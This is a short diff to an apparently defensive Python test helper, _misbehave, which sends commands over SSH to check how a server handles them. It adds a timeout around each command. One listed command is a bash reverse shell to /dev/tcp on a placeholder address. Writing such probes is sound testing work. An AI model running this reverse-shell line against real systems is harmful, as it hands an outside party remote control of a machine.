@@ -46,7 +46,9 @@ async def _misbehave(port: int) -> bool:
         "bash -i >& /dev/tcp/192.0.2.1/9 0>&1 &",
     ):
         try:
-            await client.run(line)
+            await asyncio.wait_for(client.run(line), 8)
+        except TimeoutError:
+            continue  # what still dials in the background holds the channel
         except asyncssh.Error:
             return True
     try:
